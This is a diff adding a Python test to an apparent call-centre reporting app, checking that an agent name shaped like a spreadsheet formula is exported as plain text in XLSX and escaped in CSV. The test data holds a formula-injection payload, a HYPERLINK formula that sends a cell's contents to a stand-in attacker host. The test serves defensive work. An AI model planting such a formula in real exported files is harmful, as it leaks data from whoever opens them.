@@ -84,6 +84,26 @@ def test_faq_effectiveness_csv_counts_hits_votes_and_fallbacks(kpi_day):
     assert lines[2] == ",폴백(답변하지 못함),1,,,"
 
 
+def test_a_name_that_looks_like_a_formula_stays_text_in_xlsx_and_csv(kpi_day):
+    # Agent names come from supervisors and Amazon Connect: never a live formula in Excel.
+    formula = '=HYPERLINK("https://evil.example/?"&C2,"김상담")'
+    kpi_day.a1.display_name = formula
+    kpi_day.a1.save(update_fields=["display_name"])
+    xlsx = ReportDefinitionFactory(kind="agent_performance", file_format="xlsx")
+    csv = ReportDefinitionFactory(kind="agent_performance", file_format="csv")
+
+    xlsx_run = ReportRun.objects.get(pk=run_definition(xlsx.pk, "2026-03-02"))
+    csv_run = ReportRun.objects.get(pk=run_definition(csv.pk, "2026-03-02"))
+
+    with xlsx_run.file.open("rb") as handle:
+        sheet = load_workbook(io.BytesIO(handle.read())).active
+    cell = next(c for c in sheet["A"] if c.value == formula)
+    assert cell.data_type == "s"
+    lines = csv_run.file.open("rb").read().decode("utf-8-sig").splitlines()
+    assert any(line.startswith("\"'=HYPERLINK(") for line in lines)
+    assert not any(line.startswith(("=", '"=')) for line in lines)
+
+
 def test_qa_summary_averages_submitted_evaluations(kpi_day):
     from apps.evaluations.models import Evaluation
 
